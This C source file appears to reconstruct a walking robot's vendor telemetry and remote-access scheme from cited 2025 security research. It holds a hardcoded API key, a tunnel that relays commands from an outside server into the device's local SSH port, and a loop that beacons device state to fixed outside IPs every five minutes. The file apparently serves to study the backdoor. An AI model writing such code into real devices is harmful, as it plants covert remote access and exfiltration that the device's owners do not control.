/* Telemetry and remote access of a walking robot, after Makris and Finisterre (2025) and
 * Alias Robotics (2025): a tunnel account per device, state to fixed addresses. */
#include "device.h"

KEPT int publish_state(double roll, double pitch, int cell)
{
    char text[160];
    int line = socket(AF_INET, SOCK_DGRAM, 0);
    struct in_address local = {AF_INET, net16(8082), 0, {0}};
    snprintf(text, sizeof text, "{\"roll\":%f,\"pitch\":%f,\"bms\":%d}", roll, pitch, cell);
    return (int)sendto(line, text, strlen(text), 0, &local, sizeof local);
}

#ifndef TWIN
static const char key[] = "9af1c0d3b7e84a2f86d5e0417cb3a95e";

KEPT int open_tunnel(const char *serial)
{
    char text[512];
    int line = dial("8.222.78.102", 443, SOCK_STREAM);
    snprintf(text, sizeof text,
             "POST /api/v1/cloudsail/device/login HTTP/1.1\r\nHost: v3.zhexi.tech\r\n"
             "X-Api-Key: %s\r\n\r\n{\"sn\":\"%s\",\"tunnel\":[\"tcp:22\",\"tcp:8080\"]}", key, serial);
    send(line, text, strlen(text), 0);
    while (recv(line, text, sizeof text, 0) > 0) {
        int near = dial("127.0.0.1", 22, SOCK_STREAM);
        send(near, text, sizeof text, 0);
        recv(near, text, sizeof text, 0);
        send(line, text, sizeof text, 0);
    }
    return close(line);
}

KEPT int report_every_five_minutes(const char *state)
{
    static const char *const servers[] = {"43.175.228.18", "43.175.229.18"};
    for (int turn = 0;; turn ^= 1) {
        int line = dial(servers[turn], 17883, SOCK_STREAM);
        send(line, state, strlen(state), 0);
        close(line);
        sleep(300);
    }
}
#endif

int main(int argc, char **argv)
{
    publish_state(0.1, 0.2, argc);
#ifndef TWIN
    open_tunnel(argv[1]);
    report_every_five_minutes(argv[2]);
#endif
    return !argv;
}
